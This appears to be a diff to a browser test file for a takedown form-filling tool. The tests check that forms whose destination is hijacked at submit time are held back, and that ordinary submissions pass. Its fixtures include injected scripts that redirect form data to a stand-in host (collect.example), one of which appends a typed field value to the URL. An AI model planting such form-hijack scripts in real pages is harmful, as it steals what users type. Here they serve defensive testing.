@@ -3,6 +3,7 @@ import { afterAll, beforeAll, expect, it } from 'vitest';
 import type { FormState } from '../../../utils/takedown/fill/form-guide';
 import { planTakedown } from '../../../utils/takedown/plan/plan';
 import { type FormPages, launchForms, press, startGuide } from '../../harness/fill/form-pages';
+import { representatives } from '../../harness/whole';
 import { planInput, route } from '../../unit/takedown/match/match-samples';
 
 /** The press on the button to send was the person's own, so a form that was exchanged just before it went out to anybody. */
@@ -56,27 +57,36 @@ const form = (buttons: string) => `<form id="f" method="post" action="/sent">${f
 const go = '<button id="go">送信</button>';
 const at = (event: string, act: string, of = 'go') => `${of}.addEventListener('${event}',()=>{${act}},{once:true})`;
 
-it.each([
-  ['its action at the press', form(go), at('pointerdown', "f.action='https://collect.example/'")],
-  ['the address of its button at the press', form(go), at('pointerdown', "go.formAction='https://collect.example/'")],
-  ['its action as it is sent', form(go), at('submit', "f.action='https://collect.example/'", 'f')],
-  [
-    'its base at the press',
-    form(go).replace('"/sent"', '"sent"'),
-    at('pointerdown', "document.head.innerHTML='<base href=https://collect.example/>'"),
-  ],
-  [
-    'itself for a link with what was written',
-    form('<a id="go" href="#">送信</a>'),
-    at('pointerdown', "go.href='https://collect.example/?n='+encodeURIComponent(a.value)"),
-  ],
-  [
-    'itself for another of its own host',
-    `${form(go)}<form id="g" method="post" action="/comments"></form>`,
-    at('pointerdown', "[a,b,go].forEach((each)=>each.setAttribute('form','g'))"),
-  ],
-  ['its method at the press', form(go), at('pointerdown', "f.method='get'")],
-])('a form that exchanges %s is held back once, and that is said', async (what, html, act) => {
+it.each(
+  representatives(
+    [
+      ['its action at the press', form(go), at('pointerdown', "f.action='https://collect.example/'")],
+      [
+        'the address of its button at the press',
+        form(go),
+        at('pointerdown', "go.formAction='https://collect.example/'"),
+      ],
+      ['its action as it is sent', form(go), at('submit', "f.action='https://collect.example/'", 'f')],
+      [
+        'its base at the press',
+        form(go).replace('"/sent"', '"sent"'),
+        at('pointerdown', "document.head.innerHTML='<base href=https://collect.example/>'"),
+      ],
+      [
+        'itself for a link with what was written',
+        form('<a id="go" href="#">送信</a>'),
+        at('pointerdown', "go.href='https://collect.example/?n='+encodeURIComponent(a.value)"),
+      ],
+      [
+        'itself for another of its own host',
+        `${form(go)}<form id="g" method="post" action="/comments"></form>`,
+        at('pointerdown', "[a,b,go].forEach((each)=>each.setAttribute('form','g'))"),
+      ],
+      ['its method at the press', form(go), at('pointerdown', "f.method='get'")],
+    ],
+    7,
+  ),
+)('a form that exchanges %s is held back once, and that is said', async (what, html, act) => {
   const { page, send, sent } = await filled(html, act);
   await send();
   await page.waitForTimeout(400);
@@ -90,22 +100,27 @@ it.each([
   await leave(page);
 });
 
-it.each([
-  ['a form that stays what it was', form(go), '', `${origin}/sent`],
-  ['a form of two ways on its own host', form(go), at('click', "f.action='/confirm'"), `${origin}/confirm`],
-  [
-    'a form that its own script sends',
-    `<form id="f">${fields}${go}</form>`,
-    "f.onsubmit=(event)=>{event.preventDefault();fetch('/api')}",
-    `${origin}/api`,
-  ],
-  [
-    'a link to another site',
-    `${form('')}<a id="go" href="https://example.org/privacy">方針</a>`,
-    '',
-    'https://example.org/privacy',
-  ],
-])('%s goes at the first press', async (_, html, act, address) => {
+it.each(
+  representatives(
+    [
+      ['a form that stays what it was', form(go), '', `${origin}/sent`],
+      ['a form of two ways on its own host', form(go), at('click', "f.action='/confirm'"), `${origin}/confirm`],
+      [
+        'a form that its own script sends',
+        `<form id="f">${fields}${go}</form>`,
+        "f.onsubmit=(event)=>{event.preventDefault();fetch('/api')}",
+        `${origin}/api`,
+      ],
+      [
+        'a link to another site',
+        `${form('')}<a id="go" href="https://example.org/privacy">方針</a>`,
+        '',
+        'https://example.org/privacy',
+      ],
+    ],
+    4,
+  ),
+)('%s goes at the first press', async (_, html, act, address) => {
   const { page, send, sent } = await filled(html, act);
   await send();
   await expect.poll(sent).toEqual([address]);
